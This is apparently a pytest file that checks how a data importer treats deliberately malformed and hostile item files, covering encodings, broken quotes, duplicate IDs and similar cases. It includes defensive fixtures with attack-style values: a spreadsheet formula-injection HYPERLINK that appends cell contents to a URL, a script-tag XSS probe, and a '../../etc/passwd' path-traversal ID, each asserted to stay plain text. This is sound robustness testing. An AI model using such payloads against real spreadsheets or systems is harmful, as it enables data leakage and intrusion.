"""Every hostile item file in tests/nasty is handled as its index says."""

from __future__ import annotations

from pathlib import Path

import pytest
from helpers.present import present

from triptych.errors import ImportRefused
from triptych.formats import read_items
from triptych.formats.decode import UnconfirmedEncoding, recoded
from triptych.formats.model import ItemFile, TurnDraft

NASTY = Path(__file__).parents[1] / "nasty"

WHITE_SPACE = "two  spaces\t tab \u00a0nbsp\u200bzwsp\u2028ls \n\n\nend"
READ_AS_THEY_ARE = {
    "array.jsonl": 2,
    "big_int_ids.jsonl": 3,
    "bom.csv": 2,
    "bom.jsonl": 2,
    "csv_field_limit.csv": 1,
    "emoji_offsets.jsonl": 5,
    "html_and_markdown.jsonl": 8,
    "identical_candidates.jsonl": 1,
    "leading_zero_ids.csv": 4,
    "lines.json": 2,
    "one_mb_text.jsonl": 1,
    "path_like_ids.jsonl": 7,
    "repeated_span.jsonl": 1,
    "rtl_bidi.jsonl": 2,
    "semicolon.csv": 2,
    "formula_injection.csv": 2,
    "utf16le_unicode_text.txt": 2,
    "whitespace_collapse.jsonl": 1,
}


def read(name: str) -> ItemFile:
    return read_items((NASTY / name).read_bytes(), name)


def messages(file: ItemFile, severity: str) -> list[tuple[int | None, str]]:
    return [(problem.row, problem.message) for problem in file.problems if problem.severity == severity]


def texts(file: ItemFile) -> list[list[str | None]]:
    return [[candidate.text for candidate in item.candidates] for item in file.items]


@pytest.mark.parametrize(("name", "count"), READ_AS_THEY_ARE.items())
def test_unusual_but_valid_files_are_read_without_warning(name: str, count: int) -> None:
    file = read(name)
    assert (len(file.items), file.problems, file.ok) == (count, (), True)


def test_a_byte_order_mark_is_dropped() -> None:
    assert list(read("bom.csv").recognised)[0] == "item_id"
    assert read("bom.jsonl").items[0].external_id == "r1"


def test_windows_1252_is_read_once_it_is_confirmed() -> None:
    with pytest.raises(UnconfirmedEncoding, match="looks like Windows-1252"):
        read("cp1252.csv")
    file = read_items(recoded((NASTY / "cp1252.csv").read_bytes(), "Windows-1252"), "cp1252.csv")
    assert file.ok
    assert file.items[0].context_text == "The staff’s “welcome” cost €5 – café extra"
    assert texts(file)[0] == ["Sorry…", "Naïve", "Œuvre"]


def test_a_file_of_unknown_encoding_is_refused_with_the_line() -> None:
    with pytest.raises(ImportRefused, match=r"Line 3: byte 0xE9 is not UTF-8"):
        read("mixed_encoding.csv")


def test_line_breaks_in_quoted_cells_become_line_feeds() -> None:
    file = read("embedded_newlines.csv")
    assert file.ok
    assert [item.external_id for item in file.items] == ["r1", "r2"]
    assert file.items[0].context_text == "Line one\nline two\n\nline four"
    assert texts(file)[0] == ["Dear guest,\n\nThank you.\n", "a\nb", "ok"]
    assert "line ends in 2 text(s)" in messages(file, "note")[0][1]


def test_broken_quotes_name_their_rows_and_swallow_no_other() -> None:
    file = read("unescaped_quote.csv")
    assert not file.ok
    assert [row for row, _ in messages(file, "error")] == [3, 5]
    assert [item.external_id for item in file.items] == ["r1", "r3", "r5"]
    assert file.items[0].context_text == 'The "suite" was tiny'


def test_ragged_rows_are_named_and_blank_ones_ignored() -> None:
    file = read("ragged.csv")
    errors = messages(file, "error")
    assert [row for row, _ in errors] == [2, 3]
    assert "4 cells" in errors[0][1]
    assert "7 cells" in errors[1][1]


def test_three_columns_of_one_name_are_three_systems() -> None:
    file = read("duplicate_header.csv")
    assert file.ok
    assert file.systems == ("candidate_1", "candidate_2", "candidate_3")
    assert texts(file) == [["a", "b", "c"]]
    assert "called 'response'" in messages(file, "note")[0][1]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("no_header.csv", "looks like data, not like a header: 'r1'"),
        ("empty.csv", "The file is empty"),
        ("header_only.csv", "no rows below"),
        ("deep_nesting.json", "nested more than 16 levels"),
    ],
)
def test_a_file_without_items_is_refused_with_a_reason(name: str, words: str) -> None:
    with pytest.raises(ImportRefused, match=words):
        read(name)


def test_nul_bytes_are_removed_and_reported() -> None:
    file = read("nul_in_text.csv")
    assert file.ok
    assert file.items[0].context_text == "abcd"
    assert messages(file, "warning")[0][0] == 2


def test_ids_stay_text_with_zeros_and_all_digits() -> None:
    assert [item.external_id for item in read("leading_zero_ids.csv").items] == ["007", "0010", "7", "10"]
    assert [item.external_id for item in read("big_int_ids.jsonl").items] == [
        "1161888007138312192",
        "1161888007138312193",
        "9007199254740993",
    ]


def test_repeated_ids_name_both_rows_and_case_variants_warn() -> None:
    file = read("duplicate_ids.csv")
    errors, warnings = messages(file, "error"), messages(file, "warning")
    assert [row for row, _ in errors] == [3, 5]
    assert all("used in row 2" in message for _, message in errors)
    assert [row for row, _ in warnings] == [4]
    assert "case only" in warnings[0][1]


def test_words_that_some_programs_take_for_missing_are_texts() -> None:
    file = read("na_strings.csv")
    assert texts(file) == [
        ["None", "null", "N/A"],
        ["NaN", "-", "true"],
        ["#N/A", "1.0", "007"],
        ["", "b", "c"],
    ]
    assert [row for row, _ in messages(file, "warning")] == [5]


def test_empty_blank_null_and_absent_candidates_are_distinguished() -> None:
    file = read("empty_candidates.jsonl")
    assert not file.ok
    errors, warnings = messages(file, "error"), messages(file, "warning")
    assert [(row, "null" in message, "no candidate" in message) for row, message in errors] == [
        (3, True, False),
        (4, False, True),
    ]
    assert [(row, "is empty" in message, "white space" in message) for row, message in warnings] == [
        (1, True, False),
        (2, False, True),
    ]
    assert texts(file)[0][1] == ""
    assert texts(file)[1][2] == "   \n\t"


def test_identical_candidates_stay_three() -> None:
    assert texts(read("identical_candidates.jsonl")) == [["Thank you.", "Thank you.", "Thank you. "]]


def test_nan_and_infinity_are_errors_with_row_and_field() -> None:
    file = read("nan_infinity.json")
    assert not file.ok
    assert [(problem.row, problem.column) for problem in file.problems] == [
        (1, "candidate_1"),
        (1, "candidate_3"),
    ]


def test_items_two_levels_down_with_message_parts_are_found() -> None:
    file = read("nested.json")
    assert file.ok
    assert file.items[0].context_turns == (
        TurnDraft("user", "The room was clean but the wifi kept dropping."),
        TurnDraft("assistant", "nested part"),
    )
    assert file.systems == ("gpt", "t5", "human")
    assert "data.items" in messages(file, "note")[0][1]


def test_a_python_list_in_a_cell_stays_text() -> None:
    file = read("stringified_list.csv")
    assert file.ok
    assert file.items[0].context_text.startswith("[{'speaker'")
    assert texts(file) == [['["x"]', "[3, 5, 5]", "c"]]
    assert "as Python prints it" in messages(file, "note")[0][1]


def test_offsets_in_code_points_hold_after_reading() -> None:
    text = read("emoji_offsets.jsonl").items[0].candidates[0].text
    assert present(text)[12:22] == "annotation"


def test_white_space_and_html_are_unchanged() -> None:
    assert texts(read("whitespace_collapse.jsonl"))[0] == [WHITE_SPACE, " leading", "trailing "]
    assert read("html_and_markdown.jsonl").items[0].context_text == "<script>alert(1)</script> after"


def test_formulas_are_read_as_text() -> None:
    file = read("formula_injection.csv")
    assert file.items[0].context_text == '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
    assert texts(file) == [["+1 great stay", "-5 stars", "@manager thank you"], ["\t=1+1", "-", "+"]]


def test_control_characters_are_taken_out_but_escapes_stay_literal() -> None:
    file = read("control_chars.jsonl")
    assert file.ok
    assert file.items[0].context_text == "bell  vt  esc [31mred[0m del \x7f"
    assert texts(file)[0][1] == "_x000D_ literal"
    assert len(messages(file, "warning")) == 2


def test_ids_like_paths_are_data() -> None:
    assert read("path_like_ids.jsonl").items[0].external_id == "../../etc/passwd"


def test_a_workbook_with_title_row_and_merged_cells_names_them() -> None:
    file = read("merged_cells.xlsx")
    assert not file.ok
    merged = [message for row, message in messages(file, "error") if row == 3]
    assert any("A3:A4" in message for message in merged)
    assert any("B3:B4" in message for message in merged)
    assert "header was found in row 2" in messages(file, "note")[0][1]


def test_a_workbook_reads_its_item_sheet_and_lists_visible_ones() -> None:
    file = read("many_sheets_hidden.xlsx")
    assert file.ok
    assert file.sheets == ("README", "items")
    assert [item.external_id for item in file.items] == ["r1"]
    warnings = [message for _, message in messages(file, "warning")]
    assert any("items (2)" in message for message in warnings)
    assert any(message.startswith("Hidden rows") and "2" in message for message in warnings)


def test_files_of_ratings_are_refused_as_items(shared: Path) -> None:
    for path in sorted((shared / "nasty" / "files").glob("ratings_*.csv")):
        with pytest.raises(ImportRefused, match="ratings, not items"):
            read_items(path.read_bytes(), path.name)


def test_every_hostile_item_file_of_the_index_is_here(shared: Path) -> None:
    there = {path.name for path in (shared / "nasty" / "files").iterdir() if not path.name.startswith("ratings_")}
    assert there == {path.name for path in NASTY.iterdir()}
